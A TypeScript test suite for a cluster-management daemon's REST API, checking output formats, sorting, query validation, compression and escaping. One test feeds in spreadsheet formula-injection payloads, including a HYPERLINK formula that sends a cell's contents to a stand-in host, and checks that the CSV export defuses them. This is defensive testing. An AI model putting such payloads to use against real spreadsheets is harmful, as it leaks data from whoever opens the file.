import t from 'tap'
import type { Table } from '../../lib/model/field.js'
import { objectTypes } from '../../lib/model/types.js'
import { Controller } from '../support/controller.js'

const c = await Controller.start(t)
await c.cluster()
for (const [name, address, comment] of [
  ['n1', '10.141.0.9', 'says "a, b"'],
  ['n2', '10.141.0.10', 'two\nlines'],
  ['n10', '10.141.0.2', null]
] as const)
  await c.post(`/config/node/${name}`, {
    group: 'compute',
    comment,
    interfaces: [{ interface: 'BOOTIF', ipaddress: address }]
  })
const text = async (path: string) => {
  const { status, text } = await c.get(path)
  t.equal(status, 200, path)
  return text
}

// rules 12.4
t.test('fields', async t => {
  const { body } = await c.get('/config/node?fields=group,BOOTIF.ipaddress')
  t.same(body.config.node, {
    n1: { group: 'compute', 'BOOTIF.ipaddress': '10.141.0.9' },
    n2: { group: 'compute', 'BOOTIF.ipaddress': '10.141.0.10' },
    n10: { group: 'compute', 'BOOTIF.ipaddress': '10.141.0.2' }
  })
  const one = await c.get('/config/node/n1?fields=status')
  t.same(one.body, { config: { node: { n1: { status: null } } } })
  const nics = await c.get('/config/node/n1/interfaces?fields=ipaddress')
  t.same(nics.body, { config: { node: { n1: { interfaces: [{ ipaddress: '10.141.0.9' }] } } } })
  t.same((await c.get('/config/node?fields=BMC.ipaddress')).body.config.node.n1, { 'BMC.ipaddress': null })
})

t.test('text', async t => {
  t.equal(
    await text('/config/node?format=text&fields=name,comment,BOOTIF.ipaddress'),
    [
      'name  comment         BOOTIF.ipaddress',
      'n1    says "a, b"     10.141.0.9',
      'n2    two\\u000alines  10.141.0.10',
      'n10   -               10.141.0.2',
      ''
    ].join('\n')
  )
  t.match(
    await text('/config/node?format=text'),
    /^name +group +osimage +osimagetag +macaddr +BOOTIF\.ipaddress +status +comment\n/
  )
  t.match(
    await text('/config/group?format=text'),
    /^name +osimage +osimagetag +domain +netboot +BOOTIF\.network +comment\n/
  )
  t.match(
    await text('/config/osimage?format=text'),
    /^name +distribution +kernelversion +imagefile +comment\n/
  )
  for (const [type, { fields }] of Object.entries(objectTypes) as [string, { fields: Table }][]) {
    const shown = (await text(`/config/${type}?format=text`)).split('\n', 1)[0]?.split(/ +/) ?? []
    t.notOk(
      fields.some(({ name, secret }) => secret && shown.includes(name)),
      `${type}: ${shown}`
    )
  }
  t.match(await text('/config/bmcsetup?format=text&fields=name,password'), /^name +password\n/)
  t.equal(await text('/config/switch?format=text&fields=name'), 'name\n')
  t.equal(await text('/config/group/compute/_member?format=text'), 'name\nn1\nn2\nn10\n')
  t.match((await c.get('/config/node?format=text')).headers['content-type'], 'text/plain; charset=utf-8')
})

t.test('csv', async t => {
  t.equal(
    await text('/config/node?format=csv&fields=name,comment'),
    'name,comment\r\nn1,"says ""a, b"""\r\nn2,"two\nlines"\r\nn10,\r\n'
  )
  t.match(await text('/config/network/cluster/_list?format=csv'), /^ipaddress,device\r\n/)
  t.match((await c.get('/config/node?format=csv')).headers['content-type'], 'text/csv; charset=utf-8')
})

t.test('sort: numbers by their size, what is not there last', async t => {
  const order = async (sort: string) =>
    (await text(`/config/node?format=csv&fields=name&sort=${sort}`)).trim().split('\r\n').slice(1)
  t.same(await order('BOOTIF.ipaddress'), ['n10', 'n1', 'n2'])
  t.same(await order('-name'), ['n10', 'n2', 'n1'])
  t.same(await order('comment'), ['n1', 'n2', 'n10'])
  t.same(await order('group,-BOOTIF.ipaddress'), ['n2', 'n1', 'n10'])
  t.same(Object.keys((await c.get('/config/node?sort=-name')).body.config.node), ['n10', 'n2', 'n1'])
})

t.test('pretty', async t => {
  const plain = await c.get('/config/node')
  t.equal(await text('/config/node?pretty=yes'), `${JSON.stringify(plain.body, null, 2)}\n`)
  const cluster = await c.get('/config/cluster')
  t.equal(await text('/config/cluster?pretty=yes'), `${JSON.stringify(cluster.body, null, 2)}\n`)
  t.equal(await text('/config/switch?pretty=yes'), '{\n  "config": {\n    "switch": {}\n  }\n}\n')
  t.equal(await text('/config/node?pretty=no'), plain.text)
})

// rules 12.5
t.test('what is not known behind the ? is refused', async t => {
  const table: [path: string, says: RegExp][] = [
    ['/config/node?group=x', /^query key "group" is not known: there is .*fields.*nodes/],
    ['/config/node?node=n1', /^query key "node" is not known \(did you mean "nodes"\?\): there is /],
    ['/config/cluster?x=1', /^query key "x" is not known: there is pretty$/],
    ['/config/node/n1?nodes=n1', /^query key "nodes" is not known/],
    [
      '/config/node?fields=nam',
      /^a node shows no field "nam" \(did you mean "name"\?\); it has name, group, /
    ],
    ['/config/node?fields=', /^a node shows no field ""/],
    ['/config/node?fields=BOOTIF.name', /^a node shows no field "BOOTIF.name"/],
    ['/config/switch?fields=BOOTIF.ipaddress', /shows no field/],
    ['/config/node?sort=-', /shows no field ""/],
    ['/config/node?fields=name,name', /^query key "fields" names "name" twice$/],
    [
      '/config/node?sort=name,group,status,comment,osimage,service,switch,vendor,netboot',
      /more than 8 fields/
    ],
    ['/config/node?format=xml', /^query key "format" must be one of json, text, csv$/],
    ['/config/cluster?pretty=1', /^query key "pretty" must be one of no, yes$/],
    ['/config/node?sort=name&sort=group', /^query key "sort" stands there twice$/],
    ['/config/node?pretty=no&pretty=no', /stands there twice; it must be yes or no$/],
    ['/monitor/status?a', /^query key "a" is not known/],
    ['/service/dhcp/status?a=1', /^query key "a" is not known/]
  ]
  for (const [path, says] of table) {
    const { status, body } = await c.get(path)
    t.equal(status, 400, path)
    t.match(body.message, says, path)
  }
  const posted = await c.post('/config/node/n1?dry=1', { comment: 'no' })
  t.equal(posted.status, 400)
  t.not((await c.get('/config/node/n1')).body.config.node.n1.comment, 'no')
  // A machine that boots is not held up by what its firmware adds.
  t.equal((await c.get('/boot?x=1')).status, 200)
})

// rules 12.6
t.test('long answers are compressed for those who take it', async t => {
  const long = 'x'.repeat(20_000)
  await c.post('/config/group/large', { comment: long })
  // More than one piece.
  for (let i = 0; i < 20; i++) await c.post(`/config/otherdev/large${i}`, { comment: long })
  const ask = (path: string, encoding: string) =>
    fetch(`http://127.0.0.1:${c.daemon.port}${path}`, {
      headers: { 'x-access-tokens': c.token, 'accept-encoding': encoding }
    })
  for (const path of [
    '/config/group',
    '/config/group?pretty=yes',
    '/config/group?format=csv',
    '/config/otherdev'
  ]) {
    const plain = await ask(path, 'identity')
    const zipped = await ask(path, 'br, gzip;q=0.5')
    t.equal(plain.headers.get('content-encoding'), null)
    t.equal(zipped.headers.get('content-encoding'), 'gzip', path)
    t.equal(await zipped.text(), await plain.text(), path)
  }
  const slow = process.cpuUsage()
  await ask('/config/group', `gzip;q=0.${'1'.repeat(15_000)} x`)
  t.ok(process.cpuUsage(slow).user < 200_000, 'a long header takes no time')
  t.equal((await ask('/config/group', 'gzip;q=0')).headers.get('content-encoding'), null)
  t.equal((await ask('/config/network', 'gzip')).headers.get('content-encoding'), null, 'a short one')
})

t.test('the states of all nodes', async t => {
  await c.post('/monitor/node/n2', { state: 'installer.downloaded' })
  const { body } = await c.get('/monitor/node')
  t.same(body.monitor.status.n1, { name: 'n1', state: null, since: null, reason: null })
  t.match(body.monitor.status.n2, { state: 'installer.downloaded', since: /^\d{4}-/ })
  t.equal(
    await text('/monitor/node?nodes=n1,n2&format=csv&fields=name,state'),
    'name,state\r\nn1,\r\nn2,installer.downloaded\r\n'
  )
})

// rules 12.4
t.test('no cell is a formula to a spreadsheet, and a table is read back as it was', async t => {
  const formulas = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201'
  ]
  // A spreadsheet whose separator is none of ours sees a cell begin behind it.
  const behind = ['x;=HYPERLINK("y")', 'x; =1', 'x|+1', "x;'=1;@2", 'a\t=1', ';;=1', ';\t\tx']
  const texts = [...formulas, ...behind, "'=1", "''=1", "'plain", "it's", '=', "'", ' =1', 'a=1', '-', '-5']
  const csv = (text: string) => text.split('\r\n').slice(1, -1).join('\r\n')
  for (const [i, comment] of texts.entries())
    await c.post(`/config/node/f${i}`, { group: 'compute', comment })
  const set = `nodes=f[0-${texts.length - 1}]`
  const table = await text(`/config/node?format=csv&fields=name,comment&${set}`)
  for (const cell of csv(table).matchAll(/(?:^|,|\n)("(?:[^"]|"")*"|[^",\r\n]*)/g))
    t.notMatch(cell[1]?.replace(/^"/, ''), /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/)
  t.match(table, /\r\nf0,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""y""\)"\r\n/)
  for (const cells of [table.split(/[;,]|\r\n/), table.split(/[\t,]|\r\n/), table.split(/[|,]|\r\n/)])
    for (const cell of cells) t.notMatch(cell, /^[=+@\uff1d\uff0b\uff0d\uff20]/, JSON.stringify(cell))
  t.match(table, /\r\nf20,"'plain"\r\nf21,it's\r\n/, 'what is none is left alone')
  const dry = await c.post('/config/node?format=csv&dryrun=yes', table)
  t.same(dry.body.changes, [], 'posted back, it changes nothing')
  for (const name of texts.keys()) await c.post(`/config/node/f${name}`, { comment: 'other' })
  t.equal((await c.post('/config/node?format=csv', table)).status, 200)
  const { node } = (await c.get(`/config/node?fields=comment&${set}`)).body.config
  t.strictSame(
    texts.map((_, i) => node[`f${i}`].comment),
    texts
  )
  // A number is none, though it may be below zero; the name of a column may be anything.
  t.equal(await text('/config/node/n1?format=csv&fields==1.ipaddress'), `"'=1.ipaddress"\r\n\r\n`)
  await c.get(`/config/node/f[0-${texts.length - 1}]/_delete`)
})

t.test('what is not seen is escaped in text, and is itself in JSON', async t => {
  const comment = 'a\u202eb\u2066\u200b\ufeff\u00ad\u061c\u3164\u{e0041}\u2028\u0085z'
  await c.post('/config/node/n1', { comment })
  t.equal((await c.get('/config/node/n1')).body.config.node.n1.comment, comment)
  t.equal(
    await text('/config/node/n1?format=text&fields=comment'),
    'comment\na\\u202eb\\u2066\\u200b\\ufeff\\u00ad\\u061c\\u3164\\udb40\\udc41\\u2028\\u0085z\n'
  )
  await c.post('/config/node/n1', { comment: 'says "a, b"' })
})

t.test('a long value makes its row long, and no other one', async t => {
  const comment = 'x'.repeat(5000)
  await c.post('/config/node/n2', { comment })
  const table = await text('/config/node?format=text&fields=comment,name&sort=name')
  const lengths = table.split('\n').map(line => line.length)
  t.same(lengths.filter(length => length > 300).length, 1)
  t.same(table.split('\n')[1], `${'says "a, b"'.padEnd(256)}  n1`)
  await c.post('/config/node/n2', { comment: 'two\nlines' })
})
